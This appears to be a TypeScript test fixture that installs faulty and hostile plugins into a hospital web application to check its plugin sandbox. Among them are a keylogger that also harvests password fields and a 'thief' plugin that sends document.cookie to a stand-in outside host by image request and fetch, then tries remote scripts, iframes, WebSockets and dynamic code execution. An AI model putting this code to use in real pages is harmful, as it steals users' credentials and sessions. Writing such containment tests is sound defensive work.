import type { OwnInstallation } from './own-installation';

/** A manifest with one page in Reception. */
function onePage(id: string, name: string, sdk = '^1.0.0') {
  return {
    id,
    name,
    version: '1.0.0',
    engines: { sdk },
    requires: ['recept'],
    contributes: {
      views: [{ id: `${id}.page`, for: 'page', title: name }],
      routes: [{ name: `recept-${id}`, path: `/recept/${id}`, view: `${id}.page` }],
      navItems: [{ workspace: 'RECEPT', route: `recept-${id}`, label: name, icon: 'cube' }],
    },
  };
}

const page = (id: string, component: string) => `
  import { jsx } from 'react/jsx-runtime';
  import { useEffect, useState } from 'react';
  export default { views: { '${id}.page': async () => ({ default: ${component} }) } };
`;

const harmless = (id: string) => page(id, `() => jsx('p', { children: 'Here I am' })`);

/** Plugins that each have one fault, and one that tries everything forbidden. */
export function installHostilePlugins(installation: OwnInstallation, elsewhere: string): void {
  const put = (id: string, name: string, code: string) => installation.install(id, onePage(id, name), code);
  put('acme-load', 'Throws on load', `throw new Error('No licence for this hospital');`);
  put('acme-render', 'Throws on render', page('acme-render', `() => { throw new Error('No teeth to draw'); }`));
  put('acme-tampered', 'Tampered with', harmless('acme-tampered'));
  put('acme-lacking', 'Lacks its view', `export default { views: {} };`);
  put('acme-thief', 'Thief', page('acme-thief', thief(elsewhere)));
  installation.install('acme-future', onePage('acme-future', 'From the future', '^9.0.0'), harmless('acme-future'));
  installation.install('acme-broken', '{ "id": "acme-broken", ', harmless('acme-broken'));
  installation.install(
    'acme-views',
    {
      ...onePage('acme-views', 'Views of others'),
      contributes: { views: [{ id: 'patients.list', for: 'page', title: 'x' }] },
    },
    harmless('acme-views'),
  );
  installation.install(
    'acme-claims',
    {
      ...onePage('acme-claims', 'Claims rights'),
      contributes: { resources: [{ id: 'organizations', title: 'Organizations' }] },
    },
    harmless('acme-claims'),
  );
  installation.install('patients', onePage('patients', 'Not the patients'), harmless('patients'));
}

/** Records every key in the page that it hears, and fails when its button is pressed. */
const listener = `
  const heard = window.heard = [];
  for (const on of [window, document])
    for (const type of ['keydown', 'keypress', 'beforeinput', 'input'])
      on.addEventListener(type, (event) => heard.push(event.key ?? event.data ?? ''), true);
  setInterval(() => {
    for (const field of document.querySelectorAll('input[type=password]')) heard.push(field.value);
  }, 50);
  ${page('acme-listener', `() => jsx('button', { onClick: () => { throw new Error('No chair is free for Ama'); }, children: 'Fail' })`)}
`;

export function installListener(installation: OwnInstallation): void {
  installation.install('acme-listener', onePage('acme-listener', 'Listener'), listener);
}

/**
 * Sends the page's secrets away in every way that a script can load something, and runs code from outside the plugin.
 */
function thief(elsewhere: string): string {
  return `() => {
    const [result, setResult] = useState('trying');
    useEffect(() => {
      const inline = document.createElement('script');
      inline.textContent = 'window.inlineRan = true';
      const remote = document.createElement('script');
      remote.src = '${elsewhere}/script.js';
      const frame = document.createElement('iframe');
      frame.src = '${elsewhere}/frame';
      const image = new Image();
      image.src = '${elsewhere}/image?' + encodeURIComponent(document.cookie);
      document.body.append(inline, remote, frame, image);
      const tries = [
        fetch('${elsewhere}/fetch', { method: 'POST', mode: 'no-cors', body: document.cookie }),
        import('${elsewhere}/module.js'),
        import('data:text/javascript,window.inlineRan = true'),
        Promise.resolve().then(() => new Function('window.inlineRan = true')()),
        new Promise((done, fail) => {
          const socket = new WebSocket('${elsewhere.replace('http', 'ws')}/socket');
          socket.onopen = done;
          socket.onerror = fail;
        }),
      ];
      Promise.allSettled(tries).then((all) => setResult(all.map(({ status }) => status).join(' ')));
    }, []);
    return jsx('p', { role: 'note', children: result });
  }`;
}

/** A third party's own workspace, without faults. */
export function installWorkspace(installation: OwnInstallation): void {
  const manifest = {
    ...onePage('acme-theatre', 'Operating theatre'),
    requires: [],
    contributes: {
      workspace: { key: 'THEATRE', title: 'Operating theatre', icon: 'pulse' },
      views: [{ id: 'acme-theatre.page', for: 'page', title: 'Operating theatre' }],
      routes: [{ name: 'theatre', path: '/theatre', view: 'acme-theatre.page' }],
      navItems: [{ route: 'theatre', label: 'Dashboard', icon: 'dashboard' }],
    },
  };
  installation.install(
    'acme-theatre',
    manifest,
    page('acme-theatre', `() => jsx('p', { children: 'Two operations today' })`),
  );
}
